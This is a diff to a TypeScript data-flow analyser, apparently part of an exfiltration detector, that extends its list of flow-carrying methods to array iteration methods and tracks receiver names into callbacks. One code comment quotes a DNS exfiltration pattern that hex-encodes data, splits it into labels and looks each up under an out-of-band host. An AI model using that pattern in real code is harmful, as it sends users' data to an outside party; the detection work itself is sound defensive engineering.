@@ -9,7 +9,10 @@ import type { FileState } from './state.js';
 import { FUNCTION_TYPES, type AstNode, type FlowFacts } from './types.js';
 
 /** Methods on unknown receivers that carry data in or out (sending, streaming, promise callbacks, collecting). */
-const FLOW_METHODS = /^(write|end|send|post|put|patch|emit|then|on|once|pipe|json|text|arrayBuffer|buffer|connect|open|push|unshift|append|set|add|concat|assign|sendBeacon|setRequestHeader|request|get|readText|writeText|submit|upload|sendDocument|sendMessage)$/;
+// The iteration methods hand each element of the receiver to the callback's parameters, as for…of does
+// (`toHex(data).match(/.{1,60}/g).forEach((c) => dns.lookup(c + '.x.oast.fun'))` splits data into labels).
+const FLOW_METHODS = /^(write|end|send|post|put|patch|emit|then|on|once|pipe|json|text|arrayBuffer|buffer|connect|open|push|unshift|append|set|add|concat|assign|sendBeacon|setRequestHeader|request|get|readText|writeText|submit|upload|sendDocument|sendMessage|forEach|map|flatMap|filter|reduce|some|every|find)$/;
+const ITERATION_METHODS = /^(forEach|map|flatMap|filter|reduce|some|every|find)$/;
 const COLLECTING_METHODS = /^(push|unshift|append|set|add|assign|write|concat)$/;
 
 /**
@@ -166,9 +169,12 @@ export function visitMethodCall(s: FileState, node: AstNode, ancestors: AstNode[
     while (origin.type === 'MemberExpression') origin = origin.object;
   }
   const object = receiver.type === 'Identifier' ? (receiver.name as string) : undefined;
+  // `toHex(data).match(re).forEach((label) => …)`: the names the receiver is computed from reach the callback.
+  const receiverNames = object === undefined && ITERATION_METHODS.test(method) ? argumentNames([receiver], []) : [];
   s.methodCalls.push({
     method,
     ...(object !== undefined ? { object } : {}),
+    ...(receiverNames.length > 0 ? { receiverNames } : {}),
     ...(objectCallee !== undefined ? { objectCallee } : {}),
     line: s.lineOf(node),
     excerpt: s.excerpt(node),
